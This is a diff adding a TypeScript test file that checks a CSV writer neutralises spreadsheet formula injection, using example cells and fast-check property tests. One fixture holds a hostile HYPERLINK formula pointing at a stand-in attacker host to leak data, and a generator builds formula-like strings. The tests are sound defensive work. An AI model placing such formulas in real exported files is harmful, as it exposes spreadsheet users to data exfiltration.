@@ -1,0 +1,62 @@
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { csvLines, neutraliseFormula } from './csv.ts';
+
+const formulaStart = /^[=+\-@\t\r\n]/;
+const plainNumber = /^[+-]?(\d+([.,]\d+)?|[.,]\d+)([eE][+-]?\d+)?$/;
+const parse = (text: string, delimiter = ',') =>
+  Papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n', delimiter }).data;
+
+/** Texts that start like formulas, with line breaks and delimiters inside. */
+const hostileText = fc
+  .tuple(
+    fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '', 'a', '1', ' '),
+    fc.string({ unit: fc.constantFrom('=', '"', ',', ';', '\r', '\n', 'x', '1', '(', ')', ' ', 'ü') }),
+  )
+  .map(([start, rest]) => start + rest);
+
+describe('csvLines', () => {
+  it('neutralises the formula the results CSV let through: a cell with a line break', () => {
+    const cell = '=HYPERLINK("http://evil.example/?leak","click")\n';
+    const [[parsed]] = parse(csvLines([[cell]])) as [[string]];
+    expect(parsed).toBe(`'${cell}`);
+  });
+
+  it('keeps plain numbers, negative ones included, as they are', () => {
+    expect(parse(csvLines([['-12.5', '+3', '-1,5', 1e-3, -4]]))[0]).toEqual([
+      '-12.5',
+      '+3',
+      '-1,5',
+      '0.001',
+      '-4',
+    ]);
+  });
+
+  it('never writes a text cell a spreadsheet would run, and loses nothing else (property)', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.array(fc.oneof(hostileText, fc.string()), { minLength: 1, maxLength: 4 }), {
+          minLength: 1,
+          maxLength: 5,
+        }),
+        fc.constantFrom(',', ';'),
+        (rows, delimiter) => {
+          // Papaparse reads a lone empty cell as an empty line: give every row a marker first cell.
+          const marked = rows.map((row) => ['row', ...row]);
+          const parsed = parse(csvLines(marked, { delimiter }), delimiter);
+          expect(parsed).toHaveLength(marked.length);
+          parsed.forEach((cells, rowIndex) => {
+            cells.forEach((cell, column) => {
+              const original = marked[rowIndex]![column]!;
+              expect(cell).toBe(neutraliseFormula(original));
+              expect(formulaStart.test(cell) && !plainNumber.test(cell)).toBe(false);
+              expect(cell === original || cell === `'${original}`).toBe(true);
+            });
+          });
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
